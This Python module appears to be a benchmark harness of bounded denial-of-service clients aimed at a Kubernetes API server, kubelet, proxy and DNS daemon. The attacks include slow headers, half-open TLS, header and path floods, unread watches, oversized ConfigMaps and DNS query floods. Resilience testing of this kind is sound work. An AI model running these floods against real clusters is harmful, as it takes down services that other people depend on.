"""The attacks of bench/hostile.py, each a client of its own that is bounded in count and time.

python -m bench.hostile_attacks NAME SECONDS TARGETS        TARGETS is the JSON of `Targets`

Those named `low_*` have a token that may read and create ConfigMaps in one namespace, those named `kubelet_metrics_*` one
that may read the metrics of nodes, as monitoring has; all others have nothing.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import os
import re
import socket
import ssl
import struct
import sys
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

import uvloop

from netproxy.dns import wire

CONNECTIONS = 1000


@dataclass(frozen=True, slots=True)
class Targets:
    """Addresses and ports of the daemons, and the credentials of an unprivileged client."""

    api: tuple[str, int]
    kubelet: tuple[str, int]
    proxy: tuple[str, int]
    dns: tuple[str, int]
    token: str
    namespace: str
    metrics_token: str


METRICS = ("/metrics", "/metrics/cadvisor", "/metrics/resource", "/metrics/probes")
Attack = Callable[[Targets], Awaitable[None]]
ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


def unchecked() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


TLS = unchecked()


async def opened(place: tuple[str, int], *, tls: bool = True) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection(*place, ssl=TLS if tls else None)


async def many(one: Callable[[int], Awaitable[None]], count: int, a_second: float) -> None:
    """Keep `count` of them going, begun at this rate; one that ends begins again at its turn."""

    async def again(number: int) -> None:
        while True:
            # RuntimeError is uvloop's word for a transport that is closed.
            with contextlib.suppress(OSError, RuntimeError, asyncio.IncompleteReadError):
                await one(number)
            await asyncio.sleep(count / a_second)

    tasks = []
    for number in range(count):
        tasks.append(asyncio.create_task(again(number)))
        await asyncio.sleep(1 / a_second)
    await asyncio.gather(*tasks)


async def hold(place: tuple[str, int], first: bytes, more: bytes = b"", *, tls: bool = True) -> None:
    """Send the beginning of something and then `more` every second, until the server closes the connection."""
    reader, writer = await opened(place, tls=tls)
    try:
        writer.write(first)
        while True:
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(1):
                    while await reader.read(65536):
                        pass
                    return
            writer.write(more)
            await writer.drain()
    finally:
        writer.transport.abort()


async def ask(place: tuple[str, int], request: Callable[[], bytes], pause: float = 0.1) -> None:
    """Send requests on one connection, each so many seconds after the last one's answer."""
    reader, writer = await opened(place)
    try:
        while True:
            writer.write(request())
            await writer.drain()
            head = (await reader.readuntil(b"\r\n\r\n")).lower()
            length = re.search(rb"content-length: (\d+)", head)
            await reader.readexactly(int(length[1]) if length else 0)
            await asyncio.sleep(pause)
    finally:
        writer.transport.abort()


async def half_open(place: tuple[str, int]) -> None:
    """Send the first message of a TLS handshake and nothing more."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        TLS.wrap_bio(incoming, outgoing).do_handshake()
    await hold(place, outgoing.read(), tls=False)


async def bursts(place: tuple[str, int]) -> None:
    """Send the first messages of a hundred TLS handshakes at the same moment, twice a second, and leave."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        TLS.wrap_bio(incoming, outgoing).do_handshake()
    hello = outgoing.read()

    async def connected() -> asyncio.StreamWriter:
        return (await opened(place, tls=False))[1]

    while True:
        found = await asyncio.gather(*(connected() for _ in range(100)), return_exceptions=True)
        writers = [each for each in found if isinstance(each, asyncio.StreamWriter)]
        for writer in writers:
            writer.write(hello)
        await asyncio.sleep(0.5)
        for writer in writers:
            writer.transport.abort()


async def unread(place: tuple[str, int], request: bytes) -> None:
    """Send a request and read nothing of the answer.

    Little room is left for it on this side: another machine's would not be the server's either, and on this one a thousand
    such buffers are all that its kernel has for TCP.
    """
    made = socket.socket()
    made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 << 10)
    made.setblocking(False)
    await asyncio.get_running_loop().sock_connect(made, place)
    reader, writer = await asyncio.open_connection(sock=made, ssl=TLS, server_hostname="")
    try:
        writer.write(request)
        await writer.drain()
        await reader.read(1)
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        await asyncio.sleep(3600)
    finally:
        writer.transport.abort()


def get(path: str, headers: str = "") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: x\r\n{headers}\r\n".encode()


def bearer(targets: Targets) -> str:
    return f"Authorization: Bearer {targets.token}\r\n"


_number = itertools.count()


def long_path(length: int) -> str:
    return f"/api/v1/namespaces/{next(_number)}/".ljust(length, "x")


def many_headers(path: str = "/version", headers: str = "") -> bytes:
    lines = "".join(f"X-{next(_number)}: {'y' * 500}\r\n" for _ in range(1900))
    return get(path, headers + lines)


# -- the API server ---------------------------------------------------------------------------------------------------
@attack
async def api_silent(t: Targets) -> None:
    await many(lambda n: hold(t.api, b"", tls=False), CONNECTIONS, 500)


@attack
async def api_half_open_tls(t: Targets) -> None:
    await many(lambda n: half_open(t.api), CONNECTIONS, 100)


@attack
async def api_handshake_bursts(t: Targets) -> None:
    await bursts(t.api)


@attack
async def api_slow_heads(t: Targets) -> None:
    await many(lambda n: hold(t.api, b"GET / HTTP/1.1\r\nA: ", b"x"), CONNECTIONS, 100)


@attack
async def api_large_heads(t: Targets) -> None:
    """Heads that stop a little before the limit."""
    await many(lambda n: hold(t.api, b"GET / HTTP/1.1\r\nA: " + b"x" * 1_000_000, b"x"), 200, 20)


@attack
async def api_header_flood(t: Targets) -> None:
    await many(lambda n: ask(t.api, many_headers), 4, 10)


@attack
async def api_path_flood(t: Targets) -> None:
    await many(lambda n: ask(t.api, lambda: get(long_path(60_000))), 10, 10)


@attack
async def api_query_flood(t: Targets) -> None:
    await many(lambda n: ask(t.api, lambda: get("/api/v1/pods?" + "a&" * 30_000)), 4, 10)


@attack
async def api_pipelined(t: Targets) -> None:
    """Thousands of requests in one write, whose answers nobody reads."""
    await many(lambda n: unread(t.api, get("/version") * 5000), 20, 10)


@attack
async def low_slow_bodies(t: Targets) -> None:
    head = (
        f"POST /api/v1/namespaces/{t.namespace}/configmaps HTTP/1.1\r\nHost: x\r\n{bearer(t)}"
        "Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n"
    )
    await many(lambda n: hold(t.api, head.encode(), b"x"), CONNECTIONS, 100)


@attack
async def low_path_flood(t: Targets) -> None:
    await many(lambda n: ask(t.api, lambda: get(long_path(60_000), bearer(t))), 10, 10)


async def creations(t: Targets, content_type: str, body: str) -> None:
    """Have two clients create an object of 600 KB without a pause; nothing is stored."""
    path = f"/api/v1/namespaces/{t.namespace}/configmaps?dryRun=All"
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\n{bearer(t)}Content-Type: {content_type}\r\n"
    request = f"{head}Content-Length: {len(body)}\r\n\r\n{body}".encode()
    await many(lambda n: ask(t.api, lambda: request, 0), 2, 10)


def entries(count: int) -> dict[str, str]:
    return {f"key-{number}": "v" for number in range(count)}


@attack
async def low_large_json(t: Targets) -> None:
    """ConfigMaps with 35,000 keys, each of which is checked and recorded as a field of its creator's."""
    body = {"metadata": {"generateName": "large-"}, "data": entries(35_000)}
    await creations(t, "application/json", json.dumps(body))


@attack
async def low_large_metadata(t: Targets) -> None:
    """Thousands of owners and labels."""
    owner = {"apiVersion": "v1", "kind": "ConfigMap", "name": "a", "uid": "u"}
    metadata = {"generateName": "large-", "ownerReferences": [owner] * 5000, "labels": entries(15_000)}
    await creations(t, "application/json", json.dumps({"metadata": metadata}))


@attack
async def low_large_yaml(t: Targets) -> None:
    """The ConfigMaps in YAML."""
    lines = "".join(f"  {key}: v\n" for key in entries(35_000))
    await creations(t, "application/yaml", f"metadata:\n  generateName: large-\ndata:\n{lines}")


@attack
async def low_yaml_lists(t: Targets) -> None:
    """Lists of some megabytes that are to be written as YAML."""
    request = get(f"/api/v1/namespaces/{t.namespace}/configmaps", bearer(t) + "Accept: application/yaml\r\n")
    await many(lambda n: ask(t.api, lambda: request, 0), 2, 10)


@attack
async def low_huge_lists(t: Targets) -> None:
    """Lists of some megabytes, read by nobody."""
    request = get(f"/api/v1/namespaces/{t.namespace}/configmaps", bearer(t))
    await many(lambda n: unread(t.api, request), 200, 40)


@attack
async def low_unread_watches(t: Targets) -> None:
    """Watches that begin with all objects, read by nobody."""
    request = get(f"/api/v1/namespaces/{t.namespace}/configmaps?watch=1&resourceVersion=0", bearer(t))
    await many(lambda n: unread(t.api, request), CONNECTIONS, 100)


# -- the kubelet ------------------------------------------------------------------------------------------------------
@attack
async def kubelet_half_open_tls(t: Targets) -> None:
    await many(lambda n: half_open(t.kubelet), CONNECTIONS, 100)


@attack
async def kubelet_handshake_bursts(t: Targets) -> None:
    await bursts(t.kubelet)


@attack
async def kubelet_slow_heads(t: Targets) -> None:
    await many(lambda n: hold(t.kubelet, b"GET / HTTP/1.1\r\nA: ", b"x"), CONNECTIONS, 100)


@attack
async def kubelet_large_heads(t: Targets) -> None:
    await many(lambda n: hold(t.kubelet, b"GET / HTTP/1.1\r\nA: " + b"x" * 1_000_000, b"x"), 200, 20)


@attack
async def kubelet_slow_bodies(t: Targets) -> None:
    head = b"POST /run/a/b/c HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"
    await many(lambda n: hold(t.kubelet, head, b"x"), CONNECTIONS, 100)


@attack
async def kubelet_path_flood(t: Targets) -> None:
    await many(lambda n: ask(t.kubelet, lambda: get(long_path(60_000), bearer(t))), 10, 10)


@attack
async def kubelet_header_flood(t: Targets) -> None:
    await many(lambda n: ask(t.kubelet, lambda: many_headers("/pods")), 4, 10)


def for_metrics(t: Targets) -> str:
    return f"Authorization: Bearer {t.metrics_token}\r\n"


@attack
async def kubelet_metrics_flood(t: Targets) -> None:
    """All metrics again and again, by four clients without a pause."""
    paths = itertools.cycle(METRICS)
    await many(lambda n: ask(t.kubelet, lambda: get(next(paths), for_metrics(t)), 0), 4, 10)


@attack
async def kubelet_metrics_headers(t: Targets) -> None:
    await many(lambda n: ask(t.kubelet, lambda: many_headers("/metrics", for_metrics(t))), 4, 10)


@attack
async def kubelet_metrics_denied(t: Targets) -> None:
    """Requests that the token does not allow, each for another pod, whose permission is asked of the API server."""
    await many(lambda n: ask(t.kubelet, lambda: get(f"/containerLogs/a/b{next(_number)}/c", for_metrics(t)), 0), 4, 10)


@attack
async def kubelet_metrics_unread(t: Targets) -> None:
    """Thousands of requests for metrics in one write, whose answers nobody reads."""
    await many(lambda n: unread(t.kubelet, get("/metrics/cadvisor", for_metrics(t)) * 1000), 200, 40)


# -- proxy and DNS ----------------------------------------------------------------------------------------------------
@attack
async def proxy_slow_heads(t: Targets) -> None:
    await many(lambda n: hold(t.proxy, b"GET / HTTP/1.1\r\nA: ", b"x", tls=False), CONNECTIONS, 200)


async def datagrams(place: tuple[str, int], message: Callable[[int], bytes], a_second: int) -> None:
    """Send messages at a rate, in small bursts, and read the answers as they come."""
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.setblocking(False)
    made.connect(place)
    for number in itertools.count():
        for turn in range(a_second // 100):
            with contextlib.suppress(OSError):
                made.send(message(number * 1000 + turn))
        with contextlib.suppress(OSError):
            while True:
                made.recv(4096)
        await asyncio.sleep(0.01)


def question(number: int, name: str, more: bytes = b"") -> bytes:
    count = 1 if more else 0
    head = struct.pack("!6H", number & 0xFFFF, 0x0100, 1, 0, 0, count)
    return head + wire.encode_name(name) + b"\x00\x01\x00\x01" + more


@attack
async def dns_made_up_names(t: Targets) -> None:
    await datagrams(t.dns, lambda n: question(n, f"made-up-{n}.default.svc.cluster.local"), 1000)


@attack
async def dns_long_messages(t: Targets) -> None:
    """Questions with four kilobytes of padding, each another."""

    def padded(number: int) -> bytes:
        padding = struct.pack("!HH", 12, 3600) + os.urandom(3600)
        option = b"\x00" + struct.pack("!HHIH", 41, 1232, 0, len(padding)) + padding
        return question(number, "kubernetes.default.svc.cluster.local", option)

    await datagrams(t.dns, padded, 500)


@attack
async def dns_outside_names(t: Targets) -> None:
    """Names outside the cluster while no resolver answers: each question waits for its time."""
    await datagrams(t.dns, lambda n: question(n, f"n{n}.example.com"), 500)


@attack
async def dns_silent_tcp(t: Targets) -> None:
    await many(lambda n: hold(t.dns, b"\x10", tls=False), CONNECTIONS, 200)


async def main() -> None:
    name, seconds, targets = sys.argv[1:]
    given = {key: tuple(value) if isinstance(value, list) else value for key, value in json.loads(targets).items()}
    end = time.monotonic() + float(seconds)
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(end - time.monotonic()):
            await ATTACKS[name](Targets(**given))


if __name__ == "__main__":
    uvloop.run(main())
